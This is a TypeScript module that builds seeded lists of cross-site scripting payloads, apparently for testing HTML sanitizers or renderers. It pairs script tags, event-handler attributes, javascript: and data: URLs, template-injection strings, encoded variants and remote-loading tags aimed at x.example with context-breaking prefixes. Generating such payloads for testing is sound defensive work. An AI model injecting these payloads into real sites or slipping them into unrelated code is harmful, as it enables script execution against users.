import { lineList } from '../word-list.ts'

const deeds = lineList(String.raw`
  <script>alert(1)</script>
  <img src=x onerror=alert(1)>
  <svg onload=alert(1)>
  <svg><script>alert(1)</script></svg>
  <iframe srcdoc="<script>alert(1)</script>">
  <iframe src="javascript:alert(1)">
  <a href="javascript:alert(1)">Look</a>
  <body onload=alert(1)>
  <details open ontoggle=alert(1)>
  <input autofocus onfocus=alert(1)>
  <video><source onerror=alert(1)></video>
  <audio src=x onerror=alert(1)>
  <object data="javascript:alert(1)">
  <form action="javascript:alert(1)"><button>Go</button>
  <style>@import "//x.example/a"</style>
  <meta http-equiv=refresh content="0;url=javascript:alert(1)">
  <base href="//x.example/">
  <link rel=stylesheet href="//x.example/a.css">
  <math><mtext><img src=x onerror=alert(1)>
  <template><img src=x onerror=alert(1)></template>
  <noscript><img src=x onerror=alert(1)>
  <marquee onstart=alert(1)>
  <p style="background:url(//x.example)">
  {{constructor.constructor('alert(1)')()}}
  javascript:alert(1)
  data:text/html,<script>alert(1)</script>
  \u003cscript\u003ealert(1)\u003c/script\u003e
  %3Cscript%3Ealert(1)%3C/script%3E
  &lt;script&gt;alert(1)&lt;/script&gt;
  ${'`+alert(1)+`'}`)

const before = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', '\u2028']

/** Words that are scripts in some place of a page: as many as wanted, others for another seed. */
export function scriptPayloads(count: number, seed: number): string[] {
  const all = before.flatMap((start) => deeds.map((deed) => start + deed))
  return Array.from({ length: count }, (_, at) => all[(seed + at * 37) % all.length] ?? '')
}
